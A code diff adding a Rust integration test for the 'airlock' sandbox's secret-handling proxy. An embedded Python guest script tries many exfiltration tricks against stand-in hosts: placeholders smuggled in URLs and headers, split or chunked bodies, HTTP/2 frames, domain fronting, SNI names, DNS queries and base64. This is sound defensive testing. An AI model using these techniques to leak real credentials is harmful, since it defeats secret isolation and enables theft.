@@ -4,7 +4,7 @@
 //!
 //! VMs are shared wherever one case cannot spoil the next: one VM runs the
 //! privilege and no-network cases exec after exec, one the file API cases,
-//! one the non-destructive containment cases; fork and thread bombs,
+//! one the non-destructive containment cases, one every attack on secrets; fork and thread bombs,
 //! memory and disk exhaustion each get a fresh VM. Every test uses its own
 //! run dir and ends with the host check: no QEMU or gvproxy mentions it, no
 //! work dir and no limits group is left.
@@ -20,15 +20,18 @@
 
 #![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test
 
+use airlock::spec::{HostPattern, Secret, SecretValue};
 use airlock::{
     Config, EgressTestOverrides, ExecError, InputError, NetworkRequest, RunError, RunRequest,
     Scheduler, Vm, VmManager, VmOptions,
 };
+use airlock_egress::UpstreamRoots;
 use airlock_gvproxy::DomainPattern;
 use airlock_protocol::{ErrorKind, ExecRequest, Language, ProtocolError};
+use airlock_tests::upstream::{answer_ok, contains, Received, Upstream};
 use airlock_tests::{
     exec_request, group_dirs, images_or_skip, last_json, python, serve, text, wait_until_gone,
-    TestResolver, Trap, NET_PRELUDE,
+    RecordingResolver, TestResolver, Trap, NET_PRELUDE,
 };
 use std::net::{Ipv4Addr, SocketAddr, TcpListener};
 use std::path::{Path, PathBuf};
@@ -990,3 +993,635 @@ print(json.dumps(out))
     destroy_leaving_nothing(&mut vm, "allowlist").await;
     run_dir_is_clean(&manager, dir.path()).await;
 }
+
+/// The attacks on secrets, all in one VM (one run of one script): a guest
+/// holding the placeholders of three secrets (`API_TOKEN`, headers only,
+/// and `BODY_TOKEN`, headers and bodies, both bound to `api.test`;
+/// `OTHER_TOKEN` bound to `other-api.test`) tries to get a value, or a
+/// placeholder, to somewhere it is not bound: over plain HTTP to
+/// `other.test`, through the intercepted `api.test`, over the passthrough
+/// `pass.test`, in TLS server names and in DNS queries. Each case prints
+/// what the guest got back; the host checks that, what each upstream
+/// received, the network report's `secret_blocked` count and hosts, and
+/// what the host's resolver was asked. Cases the proxy does not catch
+/// (a placeholder split across chunks, base64, inside a passthrough TLS)
+/// check that what leaves is the placeholder, never the value
+/// (docs/secrets.md says why that is the design).
+#[tokio::test(flavor = "multi_thread")]
+async fn secrets_cannot_be_read_or_sent_anywhere_but_their_hosts() {
+    let Some(_) = images_or_skip("attack_secrets") else {
+        return;
+    };
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .subsec_nanos();
+    let value = |what: &str| format!("sk-{what}-{}-{nanos}", std::process::id());
+    let (api_value, body_value, other_value) = (value("api"), value("body"), value("other"));
+    let api = Upstream::https("api.test", answer_api);
+    let pass = Upstream::https("pass.test", answer_ok);
+    let plain = Upstream::plain(answer_ok);
+    let trap = Trap::new();
+    let resolver = Arc::new(RecordingResolver::new(TestResolver(vec![
+        ("api.test", 443, api.addr()),
+        ("pass.test", 443, pass.addr()),
+        ("other.test", 80, plain.addr()),
+    ])));
+    let dir = run_dir();
+    let scheduler = Scheduler::start(Config {
+        egress_test: EgressTestOverrides {
+            resolver: Some(Arc::clone(&resolver) as Arc<dyn airlock_egress::Resolver>),
+            allow_private: true,
+            upstream_roots: Some(UpstreamRoots::Certificates(vec![api.ca_der().into()])),
+        },
+        secrets_ca_dir: dir.path().join("ca"),
+        overlay_pool_target: 0,
+        ..config(dir.path())
+    })
+    .await
+    .unwrap();
+    let code = format!("{NET_PRELUDE}\n{SECRET_ATTACKS}");
+    let mut request = RunRequest::new(Language::Python, code);
+    request.timeout = Duration::from_secs(240);
+    request.spec.network = NetworkRequest {
+        allow: Some(
+            ["other.test", "pass.test", "*.wild.test"]
+                .into_iter()
+                .map(|p| DomainPattern::parse(p).unwrap())
+                .collect(),
+        ),
+        exposes: Vec::new(),
+    };
+    let secret = |name: &str, value: &str, host: &str, body: bool| Secret {
+        name: name.into(),
+        value: SecretValue::new(value.as_bytes().to_vec()),
+        hosts: vec![HostPattern::parse(name, host).unwrap()],
+        body,
+    };
+    request.spec.secrets = vec![
+        secret("API_TOKEN", &api_value, "api.test", false),
+        secret("BODY_TOKEN", &body_value, "api.test", true),
+        secret("OTHER_TOKEN", &other_value, "other-api.test", false),
+    ];
+    for (name, value) in [
+        ("API_PORT", api.addr().port().to_string()),
+        ("TRAP", trap.port().to_string()),
+        ("RES_OPTIONS", "timeout:1 attempts:1".to_owned()),
+    ] {
+        request.env.insert(name.into(), value);
+    }
+
+    let result = scheduler.run(request).await.unwrap();
+
+    let stdout = text(&result.stdout);
+    assert_eq!(result.exit_code, 0, "{stdout}\n{}", text(&result.stderr));
+    let out = last_json(&stdout);
+    eprintln!("secret attacks: {out:#}");
+    let tok = out["tokens"][0].as_str().unwrap().to_owned();
+    let body_tok = out["tokens"][1].as_str().unwrap().to_owned();
+    let other_tok = out["tokens"][2].as_str().unwrap().to_owned();
+    for placeholder in [&tok, &body_tok, &other_tok] {
+        assert!(
+            placeholder.starts_with("airlock-secret-") && placeholder.len() == 47,
+            "{placeholder}"
+        );
+    }
+    let wild = format!("{tok}.wild.test");
+    let case = |name: &str| -> String {
+        out[name]
+            .as_str()
+            .unwrap_or_else(|| panic!("case {name} missing: {out:#}"))
+            .to_owned()
+    };
+    let starts = |name: &str, prefix: &str| {
+        let got = case(name);
+        assert!(got.starts_with(prefix), "{name}: {got:?}");
+        got
+    };
+    // What the proxy answers a plain-HTTP request it blocks or refuses.
+    let plain_forbidden = "HTTP/1.1 403 Forbidden";
+    // What it answers a request to an intercepted host carrying the
+    // placeholder of a secret not bound there.
+    let leak_forbidden = "Airlock: a secret placeholder may not be sent to this host";
+    let served = "HTTP/1.1 200 OK\r\nContent-Length: 8\r\n";
+    // Blocked or cut: whatever the guest got, the upstream did not answer.
+    let not_served = |name: &str| {
+        let got = case(name);
+        assert!(!got.contains("upstream"), "{name}: {got:?}");
+    };
+
+    // --- Plain HTTP to other.test (allowed, no secret bound) ---
+    // The placeholder in the URL path and in the query is blocked.
+    starts("url_path_plain", plain_forbidden);
+    starts("url_query_plain", plain_forbidden);
+    // Written 3 bytes at a time with TCP_NODELAY: the head is read whole
+    // before it is decided, and blocked.
+    starts("split_head_plain", plain_forbidden);
+    // A body written 3 bytes at a time after an innocent head: the stream
+    // guard sees the placeholder complete and cuts the connection.
+    not_served("split_body_plain");
+    // A chunked body with the placeholder in one chunk: cut.
+    not_served("chunked_plain");
+    // The placeholder split across two chunks is not one byte string on
+    // the wire: not caught (the upstream gets the placeholder, checked
+    // below, never the value).
+    starts("chunked_split_plain", served);
+    // HTTP/2 prior knowledge (the placeholder in a literal, non-Huffman
+    // HPACK field): refused for its version, before anything is sent.
+    starts("h2_prior_knowledge_plain", plain_forbidden);
+    // A CONNECT tunnel with the placeholder in Proxy-Authorization: no
+    // tunnel, refused.
+    starts("connect_plain", plain_forbidden);
+    // Base64 of the placeholder is not caught (documented): served.
+    starts("base64_plain", served);
+    // `Expect: 100-continue`: the upstream's interim answer comes back,
+    // the body with the placeholder is cut.
+    let expect = starts("expect_continue_plain", "HTTP/1.1 100 Continue\r\n\r\n|");
+    assert!(!expect.contains("upstream"), "{expect:?}");
+    // Pipelining: the first request is served, the second (with the
+    // placeholder, on the same connection) is cut.
+    let pipelined = starts("pipelined_plain", served);
+    let (_, second) = pipelined.split_once('|').unwrap();
+    assert!(!second.contains("upstream"), "{pipelined:?}");
+    // Obsolete line folding is refused for its form.
+    starts("obs_fold_plain", plain_forbidden);
+    // A head of ~15 KiB with the placeholder at its end (under the 16 KiB
+    // cap) is blocked; one past the cap is refused as too large.
+    starts("long_header_plain", plain_forbidden);
+    starts("too_long_plain", plain_forbidden);
+    // The placeholder as the Host name (allowed by `*.wild.test`): blocked.
+    starts("host_placeholder_plain", plain_forbidden);
+    // A redirect from the bound host to another host, followed with the
+    // same Authorization: the bound host gets the value, the redirect
+    // target is blocked.
+    let redirect = starts("redirect", "HTTP/1.1 302 Found\r\n");
+    assert!(
+        redirect.contains("Location: http://other.test/landing\r\n"),
+        "{redirect:?}"
+    );
+    starts("redirect_followed", plain_forbidden);
+
+    // --- TLS to the intercepted api.test ---
+    // A bound secret's placeholder in the URL is relayed as it is (only
+    // header values are substituted).
+    starts("url_bound", served);
+    // Another secret's placeholder (bound to other-api.test), in the URL
+    // or a header: blocked at api.test.
+    for name in ["url_other_secret_bound", "header_other_secret_bound"] {
+        let got = starts(name, "HTTP/1.1 403 Forbidden\r\n");
+        assert!(got.contains(leak_forbidden), "{name}: {got:?}");
+    }
+    // Chunked bodies are de-chunked and sent with a Content-Length: the
+    // headers-only secret stays a placeholder, the body secret becomes
+    // its value (checked at the upstream).
+    starts("chunked_bound_header_secret", served);
+    starts("chunked_bound_body_secret", served);
+    // HTTP/2 by ALPN only: the handshake fails (no_application_protocol).
+    let h2 = starts("h2_alpn_bound", "connect ");
+    assert!(h2.contains("alert no application protocol"), "{h2}");
+    // The HTTP/2 preface inside the HTTP/1.1 TLS, and CONNECT: 400.
+    starts("h2_preface_bound", "HTTP/1.1 400 Bad Request\r\n");
+    starts("connect_bound", "HTTP/1.1 400 Bad Request\r\n");
+    // Domain fronting (SNI api.test, Host other.test), a second request
+    // of a kept-alive connection naming another host, and an
+    // absolute-form target naming another host: 421.
+    starts("fronting", "HTTP/1.1 421 Misdirected Request\r\n");
+    let keepalive = starts("keepalive_other_host_bound", served);
+    assert!(
+        keepalive
+            .split_once('|')
+            .unwrap()
+            .1
+            .starts_with("HTTP/1.1 421 Misdirected Request\r\n"),
+        "{keepalive:?}"
+    );
+    starts(
+        "absolute_form_bound",
+        "HTTP/1.1 421 Misdirected Request\r\n",
+    );
+    // HTTP/1.0 without Host, a folded field, two Host fields: 400.
+    starts("http10_no_host_bound", "HTTP/1.1 400 Bad Request\r\n");
+    starts("obs_fold_bound", "HTTP/1.1 400 Bad Request\r\n");
+    starts("dup_host_bound", "HTTP/1.1 400 Bad Request\r\n");
+    // Case-mutated placeholders, a made-up VM's placeholder and base64 of
+    // the placeholder are not placeholders of this VM: relayed as they are.
+    starts("case_mutated_bound", served);
+    starts("foreign_vm_bound", served);
+    starts("base64_bound", served);
+    // A 60 KB field with the placeholder at its end: substituted.
+    starts("long_header_bound", served);
+    // A head over the 64 KiB cap: 431, or (when the proxy closes with
+    // bytes unread) a reset; either way nothing is relayed (checked at the
+    // upstream).
+    let too_long = case("too_long_header_bound");
+    assert!(
+        too_long.starts_with("HTTP/1.1 431 ") || too_long.contains("Reset"),
+        "{too_long:?}"
+    );
+    // SNI pass.test (no secret) with Host api.test: plain passthrough, the
+    // placeholder reaches pass.test, never the value.
+    starts("reverse_fronting", served);
+
+    // --- Server names, IP literals, DNS ---
+    // The placeholder in the SNI of an allowed (wildcard) passthrough name:
+    // blocked with an access_denied alert.
+    let sni = starts("sni_placeholder", "connect ");
+    assert!(sni.contains("ACCESS_DENIED"), "{sni}");
+    // No SNI, and an IP literal as SNI: refused before any TLS.
+    let no_sni = starts("no_sni", "connect ");
+    assert!(no_sni.contains("ACCESS_DENIED"), "{no_sni}");
+    starts("ip_sni", "\u{15}\u{3}\u{3}\u{0}\u{2}\u{2}1");
+    // The upstream's own address is not reachable from the guest.
+    assert_ne!(out["direct_ip"], "connected", "{out}");
+    assert_ne!(out["trap"], "connected", "{out}");
+    // A name with the placeholder resolves to nothing, as an A query or a
+    // TXT query (which go no further than gvproxy); under the allowed
+    // wildcard it resolves to the proxy, which then blocks it (above).
+    assert_eq!(out["dns_a_placeholder"], "fail", "{out}");
+    let txt = &out["dns_txt_placeholder"];
+    assert!(txt.is_string() || txt["answers"] == 0, "{out}");
+    assert_eq!(out["dns_wild"], serde_json::json!(["192.168.127.254"]));
+
+    // --- What each upstream received ---
+    assert!(
+        api.wait_idle(Duration::from_secs(10)),
+        "api.test still open"
+    );
+    assert!(
+        pass.wait_idle(Duration::from_secs(10)),
+        "pass.test still open"
+    );
+    assert!(
+        plain.wait_idle(Duration::from_secs(10)),
+        "other.test still open"
+    );
+    let api_requests = api.requests();
+    let mut api_targets: Vec<String> = api_requests.iter().map(|r| r.target().to_owned()).collect();
+    api_targets.sort();
+    let mut expected = vec![
+        "/redirect".to_owned(),
+        format!("/v1/{tok}?q={tok}"),
+        "/chunked-api".to_owned(),
+        "/chunked-body".to_owned(),
+        "/keepalive-1".to_owned(),
+        "/case".to_owned(),
+        "/foreign".to_owned(),
+        "/base64-api".to_owned(),
+        "/long-api".to_owned(),
+    ];
+    expected.sort();
+    assert_eq!(api_targets, expected, "{api_requests:#?}");
+    let api_request = |target: &str| {
+        api_requests
+            .iter()
+            .find(|r| r.target() == target)
+            .unwrap()
+            .clone()
+    };
+    let bearer = format!("Authorization: Bearer {api_value}\r\n");
+    for target in ["/redirect", "/keepalive-1", &format!("/v1/{tok}?q={tok}")] {
+        let head = api_request(target).head;
+        assert!(head.contains(&bearer), "{target}: {head}");
+    }
+    let chunked_api = api_request("/chunked-api");
+    assert_eq!(text(&chunked_api.body), format!("token={tok}"));
+    assert!(
+        chunked_api
+            .head
+            .contains(&format!("Content-Length: {}\r\n", chunked_api.body.len()))
+            && !chunked_api.head.contains("Transfer-Encoding"),
+        "{}",
+        chunked_api.head
+    );
+    assert_eq!(
+        text(&api_request("/chunked-body").body),
+        format!("token={body_value}")
+    );
+    let mutated = api_request("/case").head;
+    assert!(
+        mutated.contains(&format!("X-Upper: {}\r\n", tok.to_uppercase()))
+            && mutated.contains(&format!(
+                "X-Hex-Upper: airlock-secret-{}\r\n",
+                tok["airlock-secret-".len()..].to_uppercase()
+            )),
+        "{mutated}"
+    );
+    let foreign = out["foreign"].as_str().unwrap();
+    assert!(foreign.starts_with("airlock-secret-") && foreign != tok);
+    assert!(
+        api_request("/foreign")
+            .head
+            .contains(&format!("X-Key: {foreign}\r\n")),
+        "{:?}",
+        api_request("/foreign")
+    );
+    let b64_tok = base64(format!("user:{tok}").as_bytes());
+    assert!(api_request("/base64-api")
+        .head
+        .contains(&format!("Authorization: Basic {b64_tok}\r\n")));
+    assert!(api_request("/long-api")
+        .head
+        .contains(&format!("{} {api_value}\r\n", "a".repeat(100))));
+
+    let plain_requests = plain.requests();
+    let mut plain_targets: Vec<&str> = plain_requests.iter().map(|r| r.target()).collect();
+    plain_targets.sort_unstable();
+    assert_eq!(
+        plain_targets,
+        ["/base64", "/chunked-split", "/pipelined-1"],
+        "{plain_requests:#?}"
+    );
+    let chunked_split = plain_requests
+        .iter()
+        .find(|r| r.target() == "/chunked-split")
+        .unwrap();
+    assert_eq!(text(&chunked_split.body), format!("token={tok}"));
+    assert!(plain_requests.iter().any(|r| r
+        .head
+        .contains(&format!("Authorization: Basic {b64_tok}\r\n"))));
+    // No whole placeholder ever passed the plain-HTTP guard.
+    for raw in plain.raw() {
+        assert!(!contains(&raw, tok.as_bytes()), "{}", text(&raw));
+    }
+    let pass_requests = pass.requests();
+    assert_eq!(pass_requests.len(), 1, "{pass_requests:#?}");
+    assert!(
+        pass_requests[0].head.contains("Host: api.test\r\n")
+            && pass_requests[0]
+                .head
+                .contains(&format!("Authorization: Bearer {tok}\r\n")),
+        "{pass_requests:#?}"
+    );
+
+    // --- The values went nowhere else ---
+    for value in [&api_value, &body_value, &other_value] {
+        assert!(!stdout.contains(value.as_str()), "the guest saw a value");
+        assert!(!text(&result.stderr).contains(value.as_str()));
+        for raw in plain.raw().iter().chain(pass.raw().iter()) {
+            assert!(!contains(raw, value.as_bytes()), "{}", text(raw));
+            let b64 = base64(value.as_bytes());
+            assert!(!contains(raw, b64.as_bytes()), "{}", text(raw));
+        }
+    }
+    assert!(!api
+        .raw()
+        .iter()
+        .any(|raw| contains(raw, other_value.as_bytes())));
+    // The host's resolver was asked for upstream names only, never a name
+    // holding a placeholder.
+    let lookups = resolver.lookups();
+    assert!(
+        lookups.iter().all(|name| !name.contains("airlock-secret-")),
+        "{lookups:?}"
+    );
+    assert!(lookups.iter().any(|name| name == "api.test"), "{lookups:?}");
+    assert_eq!(trap.caught(), 0, "the guest reached the host");
+
+    // --- The network report ---
+    let network = result.network.unwrap();
+    // Counted: the nine blocked plain-HTTP requests to other.test (URL
+    // path, query, split head, split body, chunk, redirect target, the
+    // body after 100-continue, the pipelined request, the long head), the
+    // two to api.test with another secret's placeholder, and the two with
+    // the placeholder in the name (Host and SNI). Requests refused for
+    // their form (CONNECT, HTTP/2, folding, too large) are refused before
+    // the leak guard looks, and not counted.
+    assert_eq!(network.secret_blocked, 13, "{network:?}");
+    let mut hosts = network.secret_blocked_hosts.clone();
+    hosts.sort();
+    let mut expected_hosts = vec!["api.test".to_owned(), "other.test".to_owned(), wild];
+    expected_hosts.sort();
+    assert_eq!(hosts, expected_hosts, "{network:?}");
+
+    scheduler.shutdown().await;
+    let gone = wait_until_gone(dir.path().to_str().unwrap(), Duration::from_secs(10));
+    assert!(gone.is_ok(), "still running: {gone:?}");
+}
+
+/// The bound upstream's answers: `/redirect` sends the client to another
+/// host; everything else is `200 upstream`.
+fn answer_api(request: &Received) -> Vec<u8> {
+    if request.target() == "/redirect" {
+        b"HTTP/1.1 302 Found\r\nLocation: http://other.test/landing\r\nContent-Length: 0\r\n\r\n"
+            .to_vec()
+    } else {
+        answer_ok(request)
+    }
+}
+
+/// Standard base64 with padding (what the guest's `base64.b64encode` makes).
+fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for group in bytes.chunks(3) {
+        let n = group
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
+        for i in 0..4 {
+            if i <= group.len() {
+                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// The guest side of the secret attacks (after [`NET_PRELUDE`]): every
+/// case on its own connection through the proxy at 192.168.127.254, its
+/// outcome under its name in one JSON object.
+const SECRET_ATTACKS: &str = r#"
+import base64, secrets as rnd, ssl
+PROXY = "192.168.127.254"
+TOK, BODY, OTHER = (os.environ[n] for n in ("API_TOKEN", "BODY_TOKEN", "OTHER_TOKEN"))
+TRUSTED = ssl.create_default_context()
+UNVERIFIED = ssl._create_unverified_context()
+H2 = ssl.create_default_context()
+H2.set_alpn_protocols(["h2"])
+out = {"tokens": [TOK, BODY, OTHER]}
+
+def text(data):
+    return data.decode(errors="replace")
+
+def connect(port, tls=None, sni=None):
+    s = socket.create_connection((PROXY, port), timeout=30)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    if tls is not None:
+        s = tls.wrap_socket(s, server_hostname=sni)
+    return s
+
+def drain(s):
+    data = b""
+    try:
+        while True:
+            chunk = s.recv(65536)
+            if not chunk:
+                return text(data)
+            data += chunk
+    except OSError as e:
+        return text(data) + "<" + type(e).__name__ + ">"
+
+def response(s):
+    # One Content-Length framed answer of a kept-alive connection.
+    data = b""
+    while b"\r\n\r\n" not in data:
+        chunk = s.recv(65536)
+        if not chunk:
+            return text(data)
+        data += chunk
+    head, _, body = data.partition(b"\r\n\r\n")
+    length = 0
+    for line in head.split(b"\r\n")[1:]:
+        name, _, value = line.partition(b":")
+        if name.strip().lower() == b"content-length":
+            length = int(value)
+    while len(body) < length:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        body += chunk
+    return text(head + b"\r\n\r\n" + body)
+
+def case(name, port, pieces, tls=None, sni=None):
+    # Each piece is its own write on a new connection; keeps what came
+    # back until the connection closed.
+    try:
+        s = connect(port, tls, sni)
+    except OSError as e:
+        out[name] = "connect " + type(e).__name__ + ": " + str(e)
+        return
+    with s:
+        try:
+            for piece in pieces:
+                s.sendall(piece)
+        except OSError as e:
+            out[name] = "send " + type(e).__name__ + " " + drain(s)
+            return
+        out[name] = drain(s)
+
+def steps(name, port, tls=None, sni=None, *exchanges):
+    # Several exchanges on one connection: (bytes to send, how to read).
+    try:
+        s = connect(port, tls, sni)
+        with s:
+            got = []
+            for data, read in exchanges:
+                s.sendall(data)
+                got.append(read(s))
+            out[name] = "|".join(got)
+    except OSError as e:
+        out[name] = "error " + type(e).__name__ + ": " + str(e)
+
+def req(*lines, body=b""):
+    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body
+
+def chunked(*chunks):
+    return b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\n\r\n"
+
+def pieces(data, size):
+    return [data[i:i + size] for i in range(0, len(data), size)]
+
+def interim(s):
+    data = b""
+    while b"\r\n\r\n" not in data:
+        chunk = s.recv(4096)
+        if not chunk:
+            break
+        data += chunk
+    return text(data)
+
+def h2_request(authority, value):
+    # Preface, empty SETTINGS, one HEADERS frame (END_STREAM|END_HEADERS,
+    # stream 1): GET http / and the value in a literal field without
+    # indexing, neither name nor value Huffman-coded.
+    literal = lambda n, v: b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
+    block = b"\x82\x86\x84\x41" + bytes([len(authority)]) + authority + literal(b"authorization", value)
+    frame = len(block).to_bytes(3, "big") + b"\x01\x05" + (1).to_bytes(4, "big") + block
+    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" + frame
+
+def client_hello(sni):
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = UNVERIFIED.wrap_bio(incoming, outgoing, server_hostname=sni)
+    try:
+        tls.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return outgoing.read()
+
+B64 = base64.b64encode(("user:" + TOK).encode()).decode()
+CLOSE = "Connection: close"
+AUTH = "Authorization: Bearer " + TOK
+
+# Plain HTTP to other.test.
+case("url_path_plain", 80, [req("GET /leak/" + TOK + " HTTP/1.1", "Host: other.test", CLOSE)])
+case("url_query_plain", 80, [req("GET /leak?key=" + TOK + " HTTP/1.1", "Host: other.test", CLOSE)])
+case("split_head_plain", 80, pieces(req("GET /split-head HTTP/1.1", "Host: other.test", AUTH, CLOSE), 3))
+body = ("token=" + TOK).encode()
+case("split_body_plain", 80, [req("POST /split-body HTTP/1.1", "Host: other.test", "Content-Length: %d" % len(body), CLOSE)] + pieces(body, 3))
+case("chunked_plain", 80, [req("POST /chunked HTTP/1.1", "Host: other.test", "Transfer-Encoding: chunked", CLOSE), chunked(b"token=", TOK.encode(), b"&end")])
+case("chunked_split_plain", 80, [req("POST /chunked-split HTTP/1.1", "Host: other.test", "Transfer-Encoding: chunked", CLOSE, body=chunked(("token=" + TOK[:20]).encode(), TOK[20:].encode()))])
+case("h2_prior_knowledge_plain", 80, [h2_request(b"other.test", TOK.encode())])
+case("connect_plain", 80, [req("CONNECT api.test:443 HTTP/1.1", "Host: api.test:443", "Proxy-Authorization: Basic " + TOK)])
+case("base64_plain", 80, [req("GET /base64 HTTP/1.1", "Host: other.test", "Authorization: Basic " + B64, CLOSE)])
+steps("expect_continue_plain", 80, None, None,
+      (req("POST /expect HTTP/1.1", "Host: other.test", "Expect: 100-continue", "Content-Length: %d" % len(body), CLOSE), interim),
+      (body, drain))
+steps("pipelined_plain", 80, None, None,
+      (req("GET /pipelined-1 HTTP/1.1", "Host: other.test"), response),
+      (req("GET /pipelined-2 HTTP/1.1", "Host: other.test", AUTH, CLOSE), drain))
+case("obs_fold_plain", 80, [req("GET /fold HTTP/1.1", "Host: other.test", "X-Fold: a", " " + TOK, CLOSE)])
+case("long_header_plain", 80, [req("GET /long HTTP/1.1", "Host: other.test", "X-Long: " + "a" * 15000 + " " + TOK, CLOSE)])
+case("too_long_plain", 80, [req("GET /too-long HTTP/1.1", "Host: other.test", "X-Long: " + "a" * 17000 + " " + TOK, CLOSE)])
+WILD = TOK + ".wild.test"
+case("host_placeholder_plain", 80, [req("GET / HTTP/1.1", "Host: " + WILD, CLOSE)])
+
+# A redirect from the bound host, followed with the same Authorization.
+case("redirect", 443, [req("GET /redirect HTTP/1.1", "Host: api.test", AUTH, CLOSE)], TRUSTED, "api.test")
+location = [l.split(":", 1)[1].strip() for l in out["redirect"].split("\r\n") if l.lower().startswith("location:")]
+if location:
+    url = location[0]
+    case("redirect_followed", 80, [req("GET /" + url.split("/", 3)[3] + " HTTP/1.1", "Host: " + url.split("/")[2], AUTH, CLOSE)])
+
+# TLS to the intercepted api.test.
+def api(name, *lines, body=b""):
+    case(name, 443, [req(*lines, body=body)], TRUSTED, "api.test")
+api("url_bound", "GET /v1/" + TOK + "?q=" + TOK + " HTTP/1.1", "Host: api.test", AUTH, CLOSE)
+api("url_other_secret_bound", "GET /v1?key=" + OTHER + " HTTP/1.1", "Host: api.test", CLOSE)
+api("header_other_secret_bound", "GET /other HTTP/1.1", "Host: api.test", "X-Key: " + OTHER, CLOSE)
+api("chunked_bound_header_secret", "POST /chunked-api HTTP/1.1", "Host: api.test", "Transfer-Encoding: chunked", CLOSE,
+    body=chunked(("token=" + TOK[:20]).encode(), TOK[20:].encode()))
+api("chunked_bound_body_secret", "POST /chunked-body HTTP/1.1", "Host: api.test", "Transfer-Encoding: chunked", CLOSE,
+    body=chunked(("token=" + BODY[:20]).encode(), BODY[20:].encode()))
+case("h2_alpn_bound", 443, [req("GET /h2 HTTP/1.1", "Host: api.test", AUTH, CLOSE)], H2, "api.test")
+case("h2_preface_bound", 443, [h2_request(b"api.test", TOK.encode())], TRUSTED, "api.test")
+api("connect_bound", "CONNECT other.test:443 HTTP/1.1", "Host: other.test:443", "Proxy-Authorization: Bearer " + TOK)
+api("fronting", "GET /fronting HTTP/1.1", "Host: other.test", AUTH, CLOSE)
+steps("keepalive_other_host_bound", 443, TRUSTED, "api.test",
+      (req("GET /keepalive-1 HTTP/1.1", "Host: api.test", AUTH), response),
+      (req("GET /keepalive-2 HTTP/1.1", "Host: other.test", AUTH, CLOSE), drain))
+api("absolute_form_bound", "GET http://other.test/absolute HTTP/1.1", "Host: api.test", AUTH, CLOSE)
+api("http10_no_host_bound", "GET /http10 HTTP/1.0", AUTH)
+api("obs_fold_bound", "GET /fold-api HTTP/1.1", "Host: api.test", "X-Fold: a", " Bearer " + TOK, CLOSE)
+api("dup_host_bound", "GET /dup HTTP/1.1", "Host: api.test", "Host: other.test", AUTH, CLOSE)
+api("case_mutated_bound", "GET /case HTTP/1.1", "Host: api.test", "X-Upper: " + TOK.upper(),
+    "X-Hex-Upper: airlock-secret-" + TOK[15:].upper(), CLOSE)
+out["foreign"] = "airlock-secret-" + rnd.token_hex(16)
+api("foreign_vm_bound", "GET /foreign HTTP/1.1", "Host: api.test", "X-Key: " + out["foreign"], CLOSE)
+api("base64_bound", "GET /base64-api HTTP/1.1", "Host: api.test", "Authorization: Basic " + B64, CLOSE)
+api("long_header_bound", "GET /long-api HTTP/1.1", "Host: api.test", "X-Long: " + "a" * 60000 + " " + TOK, CLOSE)
+api("too_long_header_bound", "GET /too-long-api HTTP/1.1", "Host: api.test", "X-Long: " + "a" * 65600 + " " + TOK, CLOSE)
+case("reverse_fronting", 443, [req("GET /reverse-fronting HTTP/1.1", "Host: api.test", AUTH, CLOSE)], UNVERIFIED, "pass.test")
+
+# Server names, IP literals, DNS.
+case("sni_placeholder", 443, [req("GET / HTTP/1.1", "Host: " + WILD, CLOSE)], UNVERIFIED, WILD)
+case("no_sni", 443, [req("GET / HTTP/1.1", "Host: api.test", AUTH, CLOSE)], UNVERIFIED, None)
+case("ip_sni", 443, [client_hello("api.test").replace(b"api.test", b"10.0.0.1")])
+out["direct_ip"] = tcp(PROXY, int(os.environ["API_PORT"]))
+out["trap"] = tcp(PROXY, TRAP)
+out["dns_a_placeholder"] = dns(TOK + ".other.test")
+out["dns_txt_placeholder"] = dns_query("192.168.127.1", TOK + ".other.test", 16)
+out["dns_wild"] = dns(WILD)
+print(json.dumps(out))
+"#;
